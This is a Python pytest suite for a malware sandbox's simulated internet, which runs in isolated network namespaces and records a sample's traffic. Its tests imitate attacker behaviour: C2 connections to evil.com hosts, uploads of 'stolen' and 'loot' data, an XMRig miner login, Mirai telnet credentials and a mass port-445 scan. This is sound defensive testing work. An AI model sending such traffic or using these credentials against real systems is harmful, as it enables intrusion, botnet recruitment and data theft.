"""The pretended internet as a sample meets it: the real daemon in network namespaces made here, real clients.

Needs root, iproute2, curl, mingw-w64 and the guest's Python (/usr/bin/python3 with python3-cryptography). Nothing
leaves the namespaces: they have no other interface.
"""

from __future__ import annotations

import contextlib
import ctypes
import ftplib
import hashlib
import imaplib
import io
import os
import poplib
import shutil
import smtplib
import socket
import ssl
import struct
import subprocess
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path
from typing import Any, TypeVar

import msgspec
import pytest

from lazaretto.sandbox.guest.internet import channel, dns, messages

GUEST = Path(messages.__file__).parents[1]
PYTHON = "/usr/bin/python3"  # the version that the guest has
T = TypeVar("T")
M = TypeVar("M", bound=messages.Message)
TIMEOUT = 10


@dataclass
class Account:
    """What one run sent to the host."""

    messages: list[messages.Message] = field(default_factory=list)
    blobs: dict[int, tuple[dict[str, Any], bytes]] = field(default_factory=dict)

    def of(self, kind: type[M]) -> list[M]:
        return [message for message in self.messages if isinstance(message, kind)]

    def one(self, kind: type[M]) -> M:
        (found,) = self.of(kind)
        return found

    def blob(self, kind: str) -> bytes:
        (found,) = [data for head, data in self.blobs.values() if head["kind"] == kind]
        return found

    @property
    def complete(self) -> bool:
        return any(isinstance(message, messages.Finished) for message in self.messages)


class Host:
    """Reads the frames at the other end of the port, in a thread of its own as the host does."""

    def __init__(self, end: socket.socket) -> None:
        self._end = end
        self._buffer = bytearray()
        self._arrived = threading.Condition()
        self.account = Account()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        while data := self._end.recv(1 << 20):
            self._buffer += data
            with self._arrived:
                while len(self._buffer) >= 8:
                    magic, kind, _, length = struct.unpack_from("<HBBI", self._buffer)
                    assert magic == channel.MAGIC
                    assert length <= 1 << 20
                    if len(self._buffer) < 8 + length:
                        break
                    self._frame(kind, bytes(self._buffer[8 : 8 + length]))
                    del self._buffer[: 8 + length]
                self._arrived.notify_all()

    def _frame(self, kind: int, payload: bytes) -> None:
        if kind == channel.FRAME_JSON:
            raw = msgspec.json.decode(payload)
            self.account.messages.append(msgspec.convert(raw, messages.EVENTS[raw.pop("event")]))
        elif kind == channel.FRAME_BLOB:
            head = msgspec.json.decode(payload)
            self.account.blobs[head["id"]] = (head, b"")
        elif kind == channel.FRAME_DATA:
            number = int.from_bytes(payload[:4], "little")
            head, data = self.account.blobs[number]
            self.account.blobs[number] = (head, data + payload[4:])
        else:
            assert kind == channel.FRAME_END
            head, data = self.account.blobs[int.from_bytes(payload, "little")]
            assert head["size"] == len(data)

    def wait(self, seen: Callable[[Account], bool]) -> Account:
        with self._arrived:
            assert self._arrived.wait_for(lambda: seen(self.account), TIMEOUT), self.account.messages
            return self.account


class World:
    """The daemon, and a thread that lives where the sample would."""

    def __init__(self, folder: Path) -> None:
        self._undo = contextlib.ExitStack()
        self.tools, self.session = f"lz{os.getpid()}t", f"lz{os.getpid()}s"
        self.authority = folder / "authority"
        for name in (self.tools, self.session):
            subprocess.run(["ip", "netns", "add", name], check=True)
            self._undo.callback(subprocess.run, ["ip", "netns", "delete", name], check=True)
        self._guest("internet.network", "--session", f"/run/netns/{self.session}", "--neighbour", "192.168.178.20")
        self._guest("internet.certificates", str(self.authority))
        subprocess.run(["make", "-s", "-C", GUEST / "internet", f"OUT={folder}"], check=True)
        ours, theirs = socket.socketpair()
        command = self._command(
            "internet", "--port", f"fd:{theirs.fileno()}", "--authority", str(self.authority), "--decoys",
            str(folder / "decoys"), "--work", str(folder / "work"), "--hostname", "DESKTOP-7Q2",
        )  # fmt: skip
        self.process = subprocess.Popen(
            command, cwd=GUEST, pass_fds=[theirs.fileno()], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        theirs.close()
        self._undo.callback(self._stop)
        self.expect("ready")
        self.host = Host(ours)
        self._undo.callback(ours.close)
        self._undo.callback(ours.shutdown, socket.SHUT_RDWR)
        self._inside = ThreadPoolExecutor(1, initializer=_enter, initargs=(f"/run/netns/{self.session}",))
        self._undo.callback(self._inside.shutdown)
        self.trust = ssl.create_default_context(cafile=self.authority / "ca.pem")

    def close(self) -> None:
        self._undo.close()

    def _stop(self) -> None:
        assert self.process.stdin is not None
        assert self.process.stdout is not None
        self.process.stdin.write("stop\n")
        self.process.stdin.close()
        try:
            assert self.process.wait(TIMEOUT) == 0
        finally:
            self.process.kill()
            self.process.stdout.close()

    def _command(self, *words: str) -> list[str]:
        return ["ip", "netns", "exec", self.tools, PYTHON, "-m", *words]

    def _guest(self, *words: str) -> None:
        subprocess.run(self._command(*words), cwd=GUEST, check=True)

    def expect(self, word: str) -> None:
        assert self.process.stdout is not None
        assert self.process.stdout.readline().strip() == word

    def tell(self, word: str) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(word + "\n")
        self.process.stdin.flush()

    def inside(self, work: Callable[[], T]) -> T:
        """Do something where the sample is."""
        return self._inside.submit(work).result(4 * TIMEOUT)

    def curl(self, *words: str) -> bytes:
        command = [
            "ip", "netns", "exec", self.session, "curl", "-sS", "--max-time", str(TIMEOUT), "--cacert",
            str(self.authority / "ca.pem"), *words,
        ]  # fmt: skip
        return subprocess.run(command, check=True, capture_output=True).stdout

    @contextlib.contextmanager
    def run(self) -> Iterator[Account]:
        """One run; the account is whole when the block is left."""
        self.tell("start")
        self.expect("started")
        account = self.host.account = Account()
        yield account
        self.tell("finish")
        self.expect("finished")
        self.host.wait(lambda seen: seen.complete)
        assert not account.of(messages.Trouble)


def _enter(namespace: str) -> None:
    with Path(namespace).open("rb") as file:
        result = ctypes.CDLL(None, use_errno=True).setns(file.fileno(), 0x40000000)
    assert result == 0, os.strerror(ctypes.get_errno())


def resolve(name: str, kind: str = "A", server: str = "192.168.178.1", family: int = socket.AF_INET) -> list[str]:
    """Ask like a stub resolver; addresses only."""
    query = struct.pack("!HHHHHH", 99, 0x0100, 1, 0, 0, 0) + dns.encode_name(name)
    query += struct.pack("!HH", dns.NUMBERS[kind], 1)
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect((server, 53))  # only an answer from the very address and port is accepted
        sock.send(query)
        reply = sock.recv(4096)
    assert reply[:2] == query[:2]
    count, size = struct.unpack_from("!H", reply, 6)[0], 4 if kind == "A" else 16
    version = socket.AF_INET if kind == "A" else socket.AF_INET6
    at, found = len(query), []
    for _ in range(count):
        found.append(socket.inet_ntop(version, reply[at + 12 : at + 12 + size]))
        at += 12 + size
    return found


def talk(address: tuple[str, int], *words: bytes, until: bytes = b"", sock: socket.socket | None = None) -> bytes:
    """Connect, say the words, read until the mark was seen."""
    with sock or socket.create_connection(address, TIMEOUT) as connection:
        for word in words:
            connection.sendall(word)
        seen = b""
        while until and until not in seen:
            data = connection.recv(65536)
            if not data:
                break
            seen += data
        return seen


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    lacking = [name for name in ("ip", "curl", "make", "i686-w64-mingw32-gcc", PYTHON) if not shutil.which(name)]
    if os.geteuid() != 0:
        lacking.append("root")
    if lacking:
        reason = f"the pretended internet's tests need {', '.join(lacking)}"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    made = World(tmp_path_factory.mktemp("internet"))
    try:
        yield made
    finally:
        made.close()


class TestNameService:
    def test_a_name_resolves_and_its_address_is_remembered(self, world: World) -> None:
        with world.run() as account:
            (address,) = world.inside(lambda: resolve("c2.evil.com"))
            world.inside(lambda: talk((address, 4444), b"\x01\x02hello"))
        assert account.one(messages.Dns).answers == (address,)
        data = account.one(messages.Data)
        assert (data.host, data.server, data.head) == ("c2.evil.com", (address, 4444), b"\x01\x02hello")

    def test_any_server_answers_also_over_ipv6_and_tcp(self, world: World) -> None:
        query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + dns.encode_name("a.com") + b"\0\1\0\1"

        def by_tcp() -> bytes:
            return talk(("1.1.1.1", 53), struct.pack("!H", len(query)) + query, until=b"\0\4")

        with world.run() as account:
            first = world.inside(lambda: resolve("a.com", server="8.8.8.8"))
            six = world.inside(lambda: resolve("a.com", "AAAA", server="2001:4860:4860::8888", family=socket.AF_INET6))
            assert socket.inet_aton(first[0]) in world.inside(by_tcp)
        assert ":" in six[0]
        asked = account.of(messages.Dns)
        assert [(question.type, question.transport) for question in asked] == [
            ("A", "udp"), ("AAAA", "udp"), ("A", "tcp"),
        ]  # fmt: skip
        assert [question.server[0] for question in asked] == ["8.8.8.8", "2001:4860:4860::8888", "1.1.1.1"]

    def test_rubbish_is_survived(self, world: World) -> None:
        def rubbish() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                for size in range(0, 600, 7):
                    sock.sendto(os.urandom(size), ("192.168.178.1", 53))

        with world.run():
            world.inside(rubbish)
            assert world.inside(lambda: resolve("still.there.com"))


class TestWeb:
    def test_plain(self, world: World) -> None:
        with world.run() as account:
            body = world.curl(
                "--connect-to", "::5.6.7.8:8081", "-A", "bot/1", "-d", "id=7", "http://evil.com:8081/gate.php"
            )
        assert body == b"OK"
        seen = account.one(messages.Http)
        assert (seen.method, seen.url) == ("POST", "http://evil.com:8081/gate.php")
        assert (seen.body, seen.status) == (b"id=7", 200)
        assert ("User-Agent", "bot/1") in seen.headers
        assert seen.server == ("5.6.7.8", 8081)
        assert account.blob("body") == b"id=7"

    def test_encrypted_on_any_port_by_name(self, world: World) -> None:
        with world.run() as account:
            body = world.curl("--connect-to", "::5.6.7.8:4433", "https://shop.example.com:4433/")
        assert b"shop.example.com" in body
        seen = account.one(messages.Http)
        assert (seen.url, seen.tls, seen.served) == ("https://shop.example.com:4433/", True, "page")
        handshake = account.one(messages.Tls)
        assert (handshake.server_name, handshake.ok, handshake.version) == ("shop.example.com", True, "TLSv1.3")

    def test_encrypted_without_a_name(self, world: World) -> None:
        with world.run() as account:
            world.curl("https://[2001:db8::77]/x.json")
            world.curl("https://9.8.7.6/x.json")
        assert [seen.url for seen in account.of(messages.Http)] == [
            "https://[2001:db8::77]/x.json",
            "https://9.8.7.6/x.json",
        ]

    def test_old_tls_and_old_ciphers(self, world: World) -> None:
        old = ["--tls-max", "1.0", "--tlsv1.0", "--ciphers", "AES128-SHA:@SECLEVEL=0"]
        with world.run() as account:
            assert world.curl(*old, "-k", "https://9.8.7.6/x.txt") == b"OK\n"
        assert account.one(messages.Tls).version == "TLSv1"

    def test_a_client_that_trusts_nobody(self, world: World) -> None:
        def refuse() -> None:
            with pytest.raises(ssl.SSLCertVerificationError), socket.create_connection(("5.6.7.8", 443)) as sock:
                ssl.create_default_context(cafile=None).wrap_socket(sock, server_hostname="pinned.com")

        with world.run() as account:
            world.inside(refuse)
        handshake = account.one(messages.Tls)
        assert (handshake.ok, handshake.server_name) == (False, "pinned.com")
        assert "UNKNOWN_CA" in handshake.reason

    def test_a_program_is_a_recorder_known_by_its_hash(self, world: World) -> None:
        with world.run() as account:
            names = ("a.exe", "b.exe", "lib64.dll", "x86_64", "a.ps1")
            bodies = [world.curl(f"http://5.6.7.8/{name}") for name in names]
        assert [body[:2] for body in bodies] == [b"MZ", b"MZ", b"MZ", b"\x7fE", b"$n"]
        told = account.of(messages.Served)
        assert [one.sha256 for one in told] == [hashlib.sha256(body).hexdigest() for body in bodies]
        assert len({one.sha256 for one in told}) == 5
        assert told[0].url == "http://5.6.7.8/a.exe"
        assert told[0].head == bodies[0][:64]

    def test_parts_of_a_file(self, world: World) -> None:
        with world.run() as account:
            whole = world.curl("http://5.6.7.8/a.exe")
            assert world.curl("-r", "10-19", "http://5.6.7.8/a.exe") == whole[10:20]
            assert b"Content-Length: 65568" in world.curl("-I", "http://5.6.7.8/a.exe")
        assert [seen.method for seen in account.of(messages.Http)] == ["GET", "GET", "HEAD"]

    def test_large_and_chunked_bodies(self, world: World, tmp_path: Path) -> None:
        (tmp_path / "loot").write_bytes(b"\x5a" * 3_000_000)
        (tmp_path / "small").write_bytes(b"\xa5" * 500_000)
        chunked = ["-H", "Transfer-Encoding: chunked"]
        with world.run() as account:
            world.curl("-T", str(tmp_path / "loot"), "http://5.6.7.8/up")
            world.curl(*chunked, "--data-binary", f"@{tmp_path / 'small'}", "http://5.6.7.8/up")
        large, small = account.of(messages.Http)
        assert (large.method, large.body_size, large.blob, large.status) == ("PUT", 3_000_000, 0, 201)
        assert (small.body_size, len(small.body)) == (500_000, 4096)
        assert account.blob("body") == b"\xa5" * 500_000

    def test_one_connection_many_requests(self, world: World) -> None:
        with world.run() as account:
            world.curl("http://5.6.7.8/a.txt", "http://5.6.7.8/b.txt")
        assert len({seen.connection for seen in account.of(messages.Http)}) == 1
        assert len(account.of(messages.Connect)) == 1

    def test_through_a_proxy_into_tls(self, world: World) -> None:
        with world.run() as account:
            for proxy in ("http://10.0.0.1:3128", "socks5h://10.0.0.1:1080", "socks4a://10.0.0.1:1080"):
                assert world.curl("-x", proxy, "https://inner.com/a.txt") == b"OK\n"
        requests = [seen for seen in account.of(messages.Http) if seen.method == "GET"]
        assert [(seen.url, seen.proxy) for seen in requests] == [("https://inner.com/a.txt", True)] * 3

    def test_the_public_address(self, world: World) -> None:
        with world.run():
            assert world.curl("--connect-to", "::5.6.7.8:443", "https://api.ipify.org/") == b"91.64.137.52"

    def test_dns_over_https(self, world: World) -> None:
        with world.run() as account:
            body = world.curl("--connect-to", "::8.8.8.8:443", "https://dns.google/resolve?name=c2.com&type=A")
        (answer,) = msgspec.json.decode(body)["Answer"]
        asked = account.one(messages.Dns)
        assert (asked.name, asked.transport, asked.answers) == ("c2.com", "https", (answer["data"],))

    def test_websocket(self, world: World) -> None:
        upgrade = (
            b"GET /ws HTTP/1.1\r\nHost: c2.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        text, ping = b"\x81\x85\0\0\0\0hello", b"\x89\x82\0\0\0\0ok"
        with world.run() as account:
            seen = world.inside(lambda: talk(("5.6.7.8", 80), upgrade, text, ping, until=b"\x8a\x02ok"))
        assert b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" in seen  # the example of RFC 6455
        data = account.one(messages.Data)
        assert (data.protocol, data.head) == ("websocket", b"hello")

    @pytest.mark.parametrize(
        "rubbish",
        [
            b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 30_000,
            b"GET /" + b"a" * 200_000,
            b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzzzz\r\n\r\n",
            b"POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\nabc",
            b"\x16\x03\x01\xff\xff" + b"\0" * 40_000,
            b"\x16\x03\x01\x00\x05hello",
            b"\x05\xff" + b"\0" * 300,
            b"{" * 100_000,
        ],
        ids=range(8),
    )
    def test_rubbish_ends_in_time(self, world: World, rubbish: bytes) -> None:
        def send() -> None:
            with socket.create_connection(("5.6.7.8", 80), TIMEOUT) as sock, contextlib.suppress(ConnectionError):
                sock.sendall(rubbish)
                sock.shutdown(socket.SHUT_WR)
                while sock.recv(65536):
                    pass

        with world.run() as account:
            world.inside(send)
            world.host.wait(lambda seen: bool(seen.of(messages.Close)))
        assert account.one(messages.Close).sent > 0


class TestMail:
    def test_a_mail_with_tls_and_login(self, world: World) -> None:
        mail = EmailMessage()
        mail["From"], mail["To"], mail["Subject"] = "a@b.com", "c@d.com", "Your invoice"
        mail.set_content("Hello\n.\nthere\n")

        def send() -> None:
            with smtplib.SMTP("5.6.7.8", 587, timeout=TIMEOUT) as client:
                client._host = "smtp.evil.com"  # type: ignore[attr-defined]  # the name that TLS asks for
                client.starttls(context=world.trust)
                client.login("user", "secret")
                client.send_message(mail)

        with world.run() as account:
            world.inside(send)
        seen = account.one(messages.Smtp)
        assert (seen.sender, seen.recipients, seen.subject) == ("a@b.com", ("c@d.com",), "Your invoice")
        assert seen.tls
        assert b"\r\n.\r\nthere" in account.blob("mail")
        login = account.one(messages.Login)
        assert (login.protocol, login.user, login.password) == ("smtp", "user", "secret")

    def test_tls_from_the_first_byte(self, world: World) -> None:
        def send() -> None:
            unchecked = ssl._create_unverified_context()
            with smtplib.SMTP_SSL("5.6.7.8", 465, timeout=TIMEOUT, context=unchecked) as client:
                client.sendmail("a@b.com", ["c@d.com", "e@f.com"], "Subject: x\r\n\r\nbody")

        with world.run() as account:
            world.inside(send)
        assert account.one(messages.Smtp).recipient_count == 2

    def test_mailboxes(self, world: World) -> None:
        def look() -> None:
            box = poplib.POP3("5.6.7.8", timeout=TIMEOUT)
            box.user("u")
            box.pass_("p")
            assert box.stat() == (0, 0)
            box.quit()
            with imaplib.IMAP4("5.6.7.8", timeout=TIMEOUT) as other:
                other.login("v", "q w")
                assert other.select()[1] == [b"0"]

        with world.run() as account:
            world.inside(look)
        logins = [(login.protocol, login.user, login.password) for login in account.of(messages.Login)]
        assert logins == [("pop3", "u", "p"), ("imap", "v", "q w")]


class TestFtp:
    @pytest.mark.parametrize("passive", [True, False])
    def test_store_and_retrieve(self, world: World, passive: bool) -> None:
        taken = io.BytesIO()

        def transfer() -> None:
            with ftplib.FTP("5.6.7.8", timeout=TIMEOUT) as client:
                client.login("user", "secret")
                client.set_pasv(passive)
                client.cwd("/www")
                client.storbinary("STOR loot.bin", io.BytesIO(b"stolen" * 1000))
                client.retrbinary("RETR a.exe", taken.write)
                assert "public" in client.nlst()

        with world.run() as account:
            world.inside(transfer)
        stored, retrieved, _ = account.of(messages.Ftp)
        assert (stored.action, stored.path, stored.size) == ("store", "/www/loot.bin", 6000)
        assert account.blob("upload") == b"stolen" * 1000
        assert (retrieved.action, retrieved.path) == ("retrieve", "/www/a.exe")
        assert account.one(messages.Served).sha256 == hashlib.sha256(taken.getvalue()).hexdigest()
        assert account.one(messages.Login).user == "user"


class TestTalk:
    def test_irc(self, world: World) -> None:
        words = (b"PASS k\r\nNICK bot7\r\n", b"USER b 0 * :b\r\n", b"JOIN #chan\r\nPRIVMSG #chan :up\r\nQUIT\r\n")
        with world.run() as account:
            seen = world.inside(lambda: talk(("5.6.7.8", 6667), *words, until=b"Closing"))
        assert b" 001 bot7 " in seen
        assert b":End of /NAMES" in seen
        assert account.one(messages.Login).password == "k"
        assert "PRIVMSG #chan :up" in [line.text for line in account.of(messages.Line)]

    def test_a_miner(self, world: World) -> None:
        login = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4ABC","pass":"x","agent":"XMRig"}}\n'
        with world.run() as account:
            seen = world.inside(lambda: talk(("5.6.7.8", 3333), login, until=b"\n"))
        assert msgspec.json.decode(seen)["result"]["status"] == "OK"
        assert account.one(messages.Login).user == "4ABC"

    def test_telnet_lets_everybody_in(self, world: World) -> None:
        words = (b"root\r\n", b"xc3511\r\n", b"/bin/busybox MIRAI\r\n", b"exit\r\n")
        with world.run() as account:
            seen = world.inside(lambda: talk(("5.6.7.8", 23), *words, until=b"applet not found"))
        assert b"MIRAI: applet not found" in seen
        login = account.one(messages.Login)
        assert (login.user, login.password) == ("root", "xc3511")

    def test_servers_that_speak_first(self, world: World) -> None:
        with world.run():
            assert world.inside(lambda: talk(("5.6.7.8", 22), until=b"\n")).startswith(b"SSH-2.0-")
            assert world.inside(lambda: talk(("5.6.7.8", 25), until=b"\n")).startswith(b"220 ")
            assert world.inside(lambda: talk(("5.6.7.8", 25), b"GET /x.txt HTTP/1.0\r\n\r\n", until=b"OK\n"))

    def test_silence_is_kept_open(self, world: World) -> None:
        with world.run() as account:
            sock = world.inside(lambda: socket.create_connection(("5.6.7.8", 4444), TIMEOUT))
            world.host.wait(lambda seen: bool(seen.of(messages.Connect)))
            assert not account.of(messages.Close)
        closing = account.one(messages.Close)
        assert (closing.open, closing.sent, closing.protocol) == (True, 0, "")
        sock.close()


class TestDatagrams:
    def test_time_and_silence(self, world: World) -> None:
        def ask() -> bytes:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(TIMEOUT)
                for _ in range(3):
                    sock.sendto(b"beacon", ("7.7.7.7", 9999))
                sock.connect(("162.159.200.1", 123))
                sock.send(b"\x1b" + bytes(47))
                return sock.recv(100)

        with world.run() as account:
            reply = world.inside(ask)
        seconds = struct.unpack("!I", reply[40:44])[0] - 2_208_988_800
        assert abs(seconds - time.time()) < 3600
        silent, clock = account.of(messages.Data)
        assert (silent.server, silent.head, silent.guess) == (("7.7.7.7", 9999), b"beacon", "")
        assert clock.guess == "ntp"

    def test_echo_broadcast_and_unusual_protocols(self, world: World) -> None:
        def send() -> bytes:
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
                sock.settimeout(TIMEOUT)
                body = b"\0\x01\0\x01abcdefgh"
                total = sum(struct.unpack(f"!{len(body) // 2}H", body)) + 0x0800
                total = (total & 0xFFFF) + (total >> 16)
                sock.sendto(struct.pack("!HH", 0x0800, ~total & 0xFFFF) + body, ("77.88.99.11", 0))
                reply, sender = sock.recvfrom(200)
                assert sender[0] == "77.88.99.11"
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(b"who", ("192.168.178.255", 137))
                sock.sendto(b"M-SEARCH", ("239.255.255.250", 1900))
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, 47) as sock:
                sock.sendto(b"gre", ("6.6.6.6", 0))
            return reply

        with world.run() as account:
            assert world.inside(send)[20] == 0  # echo reply
            world.host.wait(lambda seen: len(seen.of(messages.Connect)) == 4)
        seen = {(one.protocol, *one.server) for one in account.of(messages.Connect)}
        assert seen == {
            ("icmp", "77.88.99.11", 0), ("udp", "192.168.178.255", 137), ("udp", "239.255.255.250", 1900),
            ("ip-47", "6.6.6.6", 0),
        }  # fmt: skip


class TestRecord:
    def test_the_pcap_holds_the_traffic_and_the_keys_open_it(self, world: World) -> None:
        with world.run() as account:
            world.curl("-A", "needle-in-plain", "http://5.6.7.8/a.txt")
            world.curl("-A", "needle-in-tls", "https://5.6.7.8/a.txt")
        pcap = account.blob("pcap")
        packets = list(_packets(pcap))
        assert account.one(messages.Finished).packets == len(packets) > 10
        assert not account.one(messages.Finished).pcap_cut
        assert b"needle-in-plain" in pcap
        assert b"needle-in-tls" not in pcap
        assert b"TRAFFIC_SECRET" in account.blob("tlskeys")
        times = [stamp for stamp, _ in packets]
        assert times == sorted(times)
        assert abs(times[0] - time.time()) < 3600

    def test_runs_are_apart(self, world: World) -> None:
        with world.run() as first:
            world.curl("-A", "one", "https://5.6.7.8/a.txt")
        with world.run() as second:
            world.curl("-A", "two", "https://5.6.7.9/a.txt")
        assert [one.connection for one in second.of(messages.Http)] == [1]
        assert second.one(messages.Http).server[0] == "5.6.7.9"
        # A line is a label, the client's random and a secret.
        randoms = [{line.split()[1] for line in run.blob("tlskeys").splitlines()} for run in (first, second)]
        assert not randoms[0] & randoms[1]
        assert len(list(_packets(second.blob("pcap")))) < 60

    def test_more_bodies_than_the_bound(self, world: World) -> None:
        with world.run() as account:
            world.curl("-d", "x", "http://5.6.7.8/a?[1-40]")
        assert len([1 for head, _ in account.blobs.values() if head["kind"] == "body"]) == channel.BLOBS_LIMIT
        assert account.one(messages.Finished).lost_blobs == 40 - channel.BLOBS_LIMIT
        assert len(account.of(messages.Http)) == 40

    def test_many_connections_at_once(self, world: World) -> None:
        def scan() -> None:
            with contextlib.ExitStack() as stack:
                sockets = [stack.enter_context(socket.socket()) for _ in range(1200)]
                for number, sock in enumerate(sockets, 1):
                    sock.settimeout(TIMEOUT)
                    sock.connect((f"45.{number >> 8}.{number & 255}.9", 445))
                with contextlib.suppress(ConnectionError):
                    assert sockets[-1].recv(1) == b""  # shut at once

        with world.run() as account:
            world.inside(scan)
            assert world.curl("http://5.6.7.8/a.txt") == b"OK\n"
        assert account.one(messages.Finished).refused_connections > 0

    def test_a_lan_with_neighbours(self, world: World) -> None:
        with world.run() as account:
            world.inside(lambda: talk(("192.168.178.20", 445), b"\0\0\0\x85\xffSMBr"))
            page = world.inside(lambda: urllib.request.urlopen("http://192.168.178.1/", timeout=TIMEOUT).read())
        assert b"FRITZ!Box" in page
        assert account.one(messages.Data).guess == "smb"

    def test_an_idle_daemon_never_wakes(self, world: World) -> None:
        with world.run():
            world.curl("http://5.6.7.8/a.txt")
            before = _switches(world.process.pid)
            time.sleep(1.5)
            assert _switches(world.process.pid) == before


def _packets(pcap: bytes) -> Iterator[tuple[float, bytes]]:
    assert struct.unpack_from("<I", pcap)[0] == 0xA1B23C4D
    at = 24
    while at < len(pcap):
        seconds, nanoseconds, size, _ = struct.unpack_from("<IIII", pcap, at)
        yield seconds + nanoseconds / 1e9, pcap[at + 16 : at + 16 + size]
        at += 16 + size


def _switches(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return sum(int(line.split()[1]) for line in status.splitlines() if "ctxt_switches" in line)
